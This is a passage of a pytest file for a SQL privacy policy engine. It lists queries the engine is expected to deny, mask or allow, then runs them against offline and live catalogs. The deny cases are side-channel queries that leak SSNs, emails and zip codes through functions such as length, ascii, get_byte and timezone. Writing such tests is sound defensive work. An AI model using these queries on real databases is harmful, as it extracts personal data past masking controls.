deny - SELECT id, make_date(2000, length(ssn), 1) FROM customers
deny - SELECT id, make_timestamp(2000, 1, 1, length(email), 0, 0) FROM customers
deny - SELECT id, to_timestamp(ascii(ssn) * 1e12) FROM customers
deny - SELECT id, get_byte('\x00'::bytea, ascii(ssn)) FROM customers
deny - SELECT id, timezone(zip, now()) FROM customers
deny - SELECT id, now() AT TIME ZONE zip FROM customers
deny - SELECT id, to_tsquery(full_name) FROM customers
deny - SELECT id, to_tsvector(zip, 'x') FROM customers
deny - SELECT id, decode('00', ssn) FROM customers
deny - SELECT id, convert_to('x', zip) FROM customers
mask 1 SELECT id, to_tsvector(notes) FROM patients
mask 1 SELECT id, convert_to(email, 'UTF8') FROM customers
mask 1 SELECT id, date_trunc('month', birth_date) FROM customers
mask 1 SELECT id, date_part('year', birth_date) FROM customers
mask 1 SELECT id, extract(year FROM birth_date) FROM customers
mask 1 SELECT id, chr(65) || ssn FROM customers
mask 1 SELECT id, make_date(2000, 1, 1) - birth_date FROM customers
mask 1 SELECT id, to_char(birth_date, 'YYYY') FROM customers
allow - SELECT date_trunc('month', created_at) FROM orders
allow - SELECT extract(epoch FROM created_at) FROM orders
allow - SELECT created_at AT TIME ZONE 'UTC' FROM orders
"""


def _parse():
    for n, line in enumerate(l for l in CASES.strip().splitlines() if l.strip()):
        expect, positions, sql = line.split(" ", 2)
        yield pytest.param(sql, expect, [int(p) for p in positions.split(",") if p != "-"], id=f"{expect}-{n:03d}")


@pytest.mark.parametrize("catalog_kind", ["offline", "live"])
@pytest.mark.parametrize("sql, expect, positions", list(_parse()))
def test_class_case(request, policy, catalog_kind, sql, expect, positions):  # noqa: F811
    catalog = request.getfixturevalue(catalog_kind)
    decision = plan(sql, catalog=catalog, policy=policy, identity=ME, purpose="ai_training")
    verdict = judge(decision, expect, positions)
    TALLY[f"{catalog_kind}:classes:{expect}"][verdict] += 1
    masked = [c.position for c in decision.columns if c.masked]
    assert verdict != "fail", f"expected {expect} {positions}, got {decision.action} masked={masked} {list(decision.reasons)}"
